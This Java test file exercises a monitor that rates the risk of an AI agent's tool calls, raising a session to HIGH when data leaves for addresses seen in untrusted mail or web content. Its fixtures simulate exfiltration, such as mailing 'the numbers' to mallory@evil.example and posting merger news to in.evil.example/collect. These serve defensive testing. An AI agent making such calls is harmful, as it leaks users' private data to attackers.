package dev.mandate.audit.risk;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import dev.mandate.events.lifecycle.ToolLabel;
import dev.mandate.events.risk.FindingEvent;
import dev.mandate.events.risk.SessionRisk.Level;
import java.util.Map;
import java.util.stream.IntStream;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.junit.jupiter.api.Test;

/** What one session does makes no record that its topic, or who reads it, would not take. */
class WrittenWithinBoundsTest {
    private static final String ATTACKER = "mallory@evil.example";

    private static RiskRun agent() {
        return RiskRun.withShippedRules()
                .at("10:00")
                .tool("web.browse", ToolLabel.UNTRUSTED)
                .tool("mail.read", ToolLabel.UNTRUSTED, ToolLabel.PRIVATE)
                .tool("files.list", ToolLabel.PRIVATE)
                .tool("mail.send", ToolLabel.EGRESS);
    }

    static void allWithinBounds(RiskRun run) {
        run.written()
                .forEach((topic, records) -> records.forEach(record -> assertThatCode(
                                () -> BoundedProducer.requireBounded(new ProducerRecord<>(
                                        topic, null, null, record.key(), record.value(), record.headers())))
                        .doesNotThrowAnyException()));
    }

    private static String[] links(int count, String host) {
        return IntStream.range(0, count)
                .mapToObj(i -> "https://" + i + "." + host + "/p")
                .toArray(String[]::new);
    }

    /** 10.8 KB of it ended the job for everybody. */
    @Test
    void an_honest_browse_of_a_long_address_with_many_links() {
        try (var run = agent()) {
            run.answers(
                    "web.browse",
                    Map.of("url", "https://wiki.example/" + "漢".repeat(1000)),
                    links(256, "wiki.example"));
            allWithinBounds(run);
        }
    }

    @Test
    void many_identifiers_as_long_as_they_can_be_of_characters_that_are_written_as_escapes() {
        try (var run = agent()) {
            for (int i = 0; i < 8; i++) {
                var shown = IntStream.range(0, 60)
                        .mapToObj(n -> "😀".repeat(120) + n)
                        .toArray(String[]::new);
                run.answers("web.browse", Map.of("page", i, "path", "a/" + "𝒜".repeat(40)), shown);
            }
            run.learns();
            allWithinBounds(run);
        }
    }

    @Test
    void what_a_session_forgets_of_strangers_stays_the_strangers() {
        try (var run = agent()) {
            run.shows("mail.read", ATTACKER).shows("web.browse", links(256, "wiki.example"));
            run.shows("files.list", ATTACKER); // nor does it become a result of the session's own
            run.calls("mail.send", Map.of("to", ATTACKER, "body", "the numbers"));
            assertThat(run.state().level()).isEqualTo(Level.HIGH);
        }
    }

    @Test
    void a_longer_address_at_a_site_that_was_forgotten_is_the_strangers_too() {
        try (var run = agent()) {
            run.shows("mail.read", "https://evil.example/start").shows("web.browse", links(256, "wiki.example"));
            run.tool("web.post", ToolLabel.EGRESS);
            run.calls("web.post", Map.of("url", "https://in.evil.example/collect?d=the-merger-is-on-friday"));
            assertThat(run.state().level()).isEqualTo(Level.HIGH);
        }
    }

    @Test
    void what_nothing_showed_is_no_strangers_because_others_were_forgotten() {
        try (var run = agent()) {
            run.shows("mail.read", ATTACKER).shows("web.browse", links(300, "wiki.example"));
            run.calls("mail.send", Map.of("to", "grace@own.example", "body", "the numbers"));
            assertThat(run.alerts())
                    .extracting(FindingEvent::severityId)
                    .allMatch(severity -> severity < FindingEvent.HIGH);
        }
    }

    @Test
    void a_session_that_shows_more_than_can_be_held_knows_nobody_any_more() {
        try (var run = agent()) {
            for (int i = 0; i < 4; i++) run.shows("web.browse", links(5_000, i + ".example"));
            run.calls("mail.send", Map.of("to", "nobody@showed.example", "body", "the numbers"));
            assertThat(run.state().level()).isEqualTo(Level.HIGH);
            allWithinBounds(run);
        }
    }
}
